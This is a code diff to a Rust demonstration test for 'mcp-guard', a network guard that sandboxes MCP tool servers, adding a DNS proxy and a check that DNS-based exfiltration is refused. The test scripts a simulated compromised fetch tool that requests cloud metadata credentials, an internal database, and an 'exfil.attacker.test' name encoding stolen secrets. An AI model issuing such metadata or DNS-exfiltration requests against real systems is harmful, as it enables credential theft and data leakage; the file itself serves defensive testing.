@@ -50,6 +50,9 @@ comment = "the database, only while a query_db call is in flight"
 [dns]
 nameservers = ["127.0.0.1:53"]
 netns = "NETNS"
+# The DNS proxy: the fetch server resolves through it, and it forwards only the names a
+# workload's host rules cover (no data carried out in other names).
+proxy = "127.0.0.153:53"
 
 [daemon]
 attach_cgroup = "ROOT"
@@ -57,6 +60,8 @@ attach_cgroup = "ROOT"
 
 const IMDS: &str = "HTTP/1.0 200 OK\r\n\r\n{\"AccessKeyId\":\"ASIA-FAKE-DEMO\",\"SecretAccessKey\":\"fake/demo/secret\",\"Token\":\"...\"}";
 const DB: &str = "fake-postgres: 4,211 rows from customers (name, email, card_last4)";
+/// What the attacker carries out in a DNS name ("secret-credentials", base32-ish).
+const EXFIL: &str = "onsxe3dfoqww4ylnmvzq";
 const CACHE: &str = "fake-redis: session:admin, oauth:github-token";
 const API: &str = "HTTP/1.0 200 OK\r\n\r\n{\"repos\":[\"mcp-guard\"]}";
 
@@ -107,6 +112,8 @@ fn main() {
     // A real DNS server in the namespace: the API's name, which the attacker will
     // later point at the metadata service (DNS rebinding).
     let dnsmasq = Dnsmasq::start(&ns, "93.184.216.34 api.github.test\n", &[], 5);
+    // The DNS proxy's address (see the config); the fetch server's resolv.conf names it.
+    ns.add_addr("127.0.0.153");
     let cg = TestCgroup::new();
 
     banner("1. Without mcp-guard: the compromised MCP server reaches everything");
@@ -237,9 +244,12 @@ fn main() {
         ["fetch", {"url": "http://93.184.216.34:443/", "raw": true}],
         ["fetch", {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "raw": true}],
         ["fetch", {"url": "http://10.0.20.7:5432/", "raw": true}],
+        ["fetch", {"url": format!("http://{EXFIL}.exfil.attacker.test/"), "raw": true}],
     ]);
-    let out = Command::new("nsenter")
-        .arg(format!("--net={}", ns.path().display()))
+    let resolv_dir = mcp_guard_tests::TempDir::new();
+    let resolv = resolv_dir.0.join("resolv.conf");
+    std::fs::write(&resolv, "nameserver 127.0.0.153\n").expect("resolv.conf");
+    let out = mcp_guard_tests::in_netns(&ns, Some(&resolv))
         .arg(venv.join("bin/python"))
         .arg(mcp_guard_tests::mcp_helper("client.py"))
         .arg("--calls")
@@ -290,9 +300,20 @@ fn main() {
                 .into_iter()
                 .filter(|e| e["mcp"].is_object()),
         );
-        mcp_events.len() >= 2
+        mcp_events.len() >= 3
     });
     for e in &mcp_events {
+        if e["hook"] == "dns" {
+            println!(
+                "  REFUSED DNS query {} {} reason={} tool={} request_id={} (never sent upstream)",
+                e["dns_type"].as_str().unwrap_or("?"),
+                e["name"].as_str().unwrap_or("?"),
+                e["reason"].as_str().unwrap_or(""),
+                e["mcp"]["tool"],
+                e["mcp"]["request_id"].as_str().unwrap_or("-"),
+            );
+            continue;
+        }
         println!(
             "  DENIED {} -> {} reason={} tool={} request_id={} arguments=\"{}\" server={} client={}",
             e["workload"].as_str().unwrap_or("?"),
@@ -305,9 +326,20 @@ fn main() {
             e["mcp"]["client"]["name"].as_str().unwrap_or("?"),
         );
     }
+    let upstream = dnsmasq.queries();
+    println!(
+        "  queries the upstream DNS server (dnsmasq) received for exfil.attacker.test: {}",
+        upstream
+            .iter()
+            .filter(|q| q.to_lowercase().contains("exfil.attacker.test"))
+            .count()
+    );
     for l in d.get("/metrics").lines().filter(|l| {
         l.starts_with("mcp_guard_mcp_tool_calls_total")
             || (l.starts_with("mcp_guard_denied_flows_total") && l.contains("fetch-mcp"))
+            || (l.starts_with("mcp_guard_dns_query_refused_total")
+                && l.contains("fetch-mcp")
+                && !l.ends_with(" 0"))
     }) {
         println!("  {l}");
     }
@@ -317,11 +349,23 @@ fn main() {
             .any(|e| e["mcp"]["tool"] == "fetch" && e["dst"] == "169.254.169.254"),
         "expected the metadata fetch to be denied and attributed to the fetch tool"
     );
+    assert!(
+        mcp_events
+            .iter()
+            .any(|e| e["hook"] == "dns" && e["mcp"]["tool"] == "fetch"),
+        "expected the exfiltrating lookup to be refused and attributed to the fetch tool"
+    );
+    assert!(
+        !upstream
+            .iter()
+            .any(|q| q.to_lowercase().contains("exfil.attacker.test")),
+        "the exfiltrating name reached the upstream DNS server: {upstream:?}"
+    );
 
     let denied = events.iter().filter(|e| e["verdict"] == "denied").count();
     let stopped = d.stop();
     banner(&format!(
-        "Result: {denied} attempts denied by the kernel programs (metadata over IPv4, IPv6 and IPv4-mapped IPv6, the internal database and cache) and the raw socket refused because `mcp-guard exec` dropped CAP_NET_RAW; the allowed API was reached; {} rebound DNS answer(s) refused. Daemon stopped cleanly: {stopped}.",
+        "Result: {denied} attempts denied by the kernel programs (metadata over IPv4, IPv6 and IPv4-mapped IPv6, the internal database and cache) and the raw socket refused because `mcp-guard exec` dropped CAP_NET_RAW; the allowed API was reached; {} rebound DNS answer(s) refused; the real fetch server's metadata, database and DNS-exfiltration attempts refused, each named by its tool call. Daemon stopped cleanly: {stopped}.",
         refused.len()
     ));
     assert!(denied >= 5, "expected the 5 connections to be denied");
